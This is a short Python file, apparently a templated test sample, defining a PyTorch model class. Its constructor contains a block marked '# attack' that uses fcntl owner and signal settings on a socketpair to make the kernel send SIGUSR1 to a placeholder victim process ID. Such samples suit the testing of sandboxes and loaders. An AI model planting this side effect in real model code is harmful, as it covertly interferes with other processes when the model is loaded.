"""Has the kernel send another process a signal, as the owner of a pipe that becomes readable."""

import fcntl
import os
import signal
import socket

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        reader, writer = socket.socketpair()
        fcntl.fcntl(reader, 8, int("@VICTIM_PID@"))
        fcntl.fcntl(reader, 10, signal.SIGUSR1)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        writer.send(b"!")
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
